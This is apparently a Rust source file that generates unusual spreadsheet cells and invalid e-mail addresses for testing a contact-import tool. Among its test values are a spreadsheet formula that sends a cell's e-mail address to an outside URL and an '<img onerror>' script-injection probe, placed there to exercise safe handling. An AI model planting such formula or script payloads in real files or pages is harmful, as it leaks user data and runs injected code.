//! Unusual cells and invalid e-mail addresses.

use super::dates::{DateFormat, ZERO, write_date};
use super::people::Person;
use super::quirks::{CellQuirk, InvalidQuirk};
use super::rng::Rng;
use super::row::{Column, Row};

/// Applies a quirk to a cell of a filled row.
pub fn apply(row: &mut Row, quirk: CellQuirk, person: &Person, rng: &mut Rng) {
    match quirk {
        CellQuirk::TypedCase => row.set(Column::Email, &capitalised_address(&person.email)),
        CellQuirk::Comma => {
            let last = rng.pick(&["King, Jr.", "Brown, PhD", "Reed, III", "Hall, M.A."]);
            row.set(Column::LastName, last);
        }
        CellQuirk::Quotes => {
            let nickname = rng.pick(&["808", "Beats", "The Mixer", "Lo-Fi"]);
            row.set(Column::FirstName, &format!("{} \"{nickname}\"", person.first));
        }
        CellQuirk::LineBreak => row.set(
            Column::Reason,
            "I found the drum kit,\r\nthen the videos.\r\n\r\nNow I want to finish a song.",
        ),
        CellQuirk::LineFeed => row.set(Column::Goals, "Finish more songs\nSell beats online"),
        CellQuirk::ZeroCreated => row.set(Column::Created, ZERO),
        CellQuirk::ZeroLastOpen => row.set(Column::LastOpen, ZERO),
        CellQuirk::DateOnly => created(row, person, DateFormat::Date, 0),
        CellQuirk::DateOffset => created(row, person, DateFormat::Offset, offset(rng)),
        CellQuirk::DateRfc3339 => created(row, person, DateFormat::Rfc3339, offset(rng)),
        CellQuirk::StatusDigit(consent) => row.set(Column::Status, consent.digit()),
        CellQuirk::FormulaEquals => {
            let formula = rng.pick(&[
                "=HYPERLINK(\"https://example.com/?mail=\"&B2,\"Free beats\")",
                "=1+1",
                "=SUM(A1:A9)*2",
            ]);
            row.set(Column::Alias, formula);
        }
        CellQuirk::FormulaPlus => row.set(Column::Reason, "+1 for the chord videos"),
        CellQuirk::FormulaMinus => row.set(Column::Daw, rng.pick(&["-", "- none -", "-?"])),
        CellQuirk::FormulaAt => {
            let handle: String = person.email.chars().take_while(|c| *c != '@').collect();
            row.set(Column::Alias, &format!("@{handle}"));
        }
        CellQuirk::Apostrophe => row.set(Column::LastName, "'t Hooft"),
        CellQuirk::LongText => row.set(Column::Reason, &long_text(rng)),
        CellQuirk::Html => {
            let first = person.first;
            row.set(Column::FirstName, &format!("<b>{first}</b> & <i>Co.</i>"));
        }
        CellQuirk::Script => row.set(Column::FirstName, "<img src=x onerror=alert(1)>"),
        CellQuirk::Emoji => {
            let emoji = rng.pick(&["🎧", "🎹🔥", "👩‍🎤", "🇧🇷", "✌🏽", "🎛️"]);
            row.set(Column::FirstName, &format!("{} {emoji}", person.first));
        }
        CellQuirk::MessyTags => row.set(Column::Tags, "Beat Tape, beat tape,, VIP ,Newsletter,"),
        CellQuirk::MultiValueEdges => row.set(Column::TypeOfMusic, "||Hip Hop|| ||Trap||"),
    }
}

/// Makes the e-mail address of a filled row invalid.
pub fn spoil(row: &mut Row, quirk: InvalidQuirk, person: &Person, rng: &mut Rng) {
    let email = person.email.as_str();
    let (local, domain) = email.split_once('@').unwrap_or((email, ""));
    let spoilt = match quirk {
        InvalidQuirk::NoAt => format!("{local}.{domain}"),
        InvalidQuirk::TwoAt if rng.percent(50) => format!("{local}@@{domain}"),
        InvalidQuirk::TwoAt => format!("{local}@home@{domain}"),
        InvalidQuirk::Empty => String::new(),
        InvalidQuirk::Blank => rng.pick(&[" ", "   ", "\u{a0}", " \u{200b} "]).to_owned(),
        InvalidQuirk::InnerSpace => format!("{} {}@{domain}", &local[..1], &local[1..]),
        InvalidQuirk::NoDomain => format!("{local}@"),
        InvalidQuirk::NoLocalPart => format!("@{domain}"),
        InvalidQuirk::AllCellsEmpty => {
            row.clear();
            return;
        }
    };
    row.set(Column::Email, &spoilt);
}

/// The e-mail address with capitalised names: `Anna.Smith@Gmail.com`.
pub fn capitalised_address(email: &str) -> String {
    let mut capital = true;
    let mut in_domain = false;
    let capitalised = email.chars().map(|letter| {
        let typed = if capital { letter.to_ascii_uppercase() } else { letter };
        in_domain |= letter == '@';
        capital = letter == '@' || !in_domain && matches!(letter, '.' | '_' | '-' | '+');
        typed
    });
    capitalised.collect()
}

fn created(row: &mut Row, person: &Person, format: DateFormat, offset_hours: i64) {
    let cell = row.cell(Column::Created);
    cell.clear();
    write_date(cell, person.created, format, offset_hours);
}

fn offset(rng: &mut Rng) -> i64 {
    rng.pick(&[-8, -5, -3, 0, 1, 2, 9])
}

fn long_text(rng: &mut Rng) -> String {
    const SENTENCES: &[&str] = &[
        "I have been making beats since school, mostly at night. ",
        "My kicks never hit the way they do in the songs I like, and I have tried everything! ",
        "Somebody in a forum said \"just use your ears\", which did not help. ",
        "J'aimerais comprendre l'harmonie, pas seulement copier des accords. ",
        "Would love feedback on my low end; it sounds fine on headphones, gone in the car. ",
        "Ich will endlich einen Track fertig machen. ",
    ];
    let length = 2_048 + rng.below(1_900) as usize;
    let mut text = String::with_capacity(4_096);
    while text.len() < length {
        text.push_str(rng.pick(SENTENCES));
    }
    text.truncate(text.trim_end().len());
    text
}
